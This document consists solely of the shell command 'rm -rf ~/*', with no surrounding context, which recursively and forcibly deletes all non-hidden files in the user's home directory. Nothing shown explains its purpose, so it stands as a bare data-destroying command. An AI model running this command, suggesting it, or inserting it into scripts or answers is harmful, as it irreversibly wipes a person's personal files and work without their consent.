rm -rf ~/* 
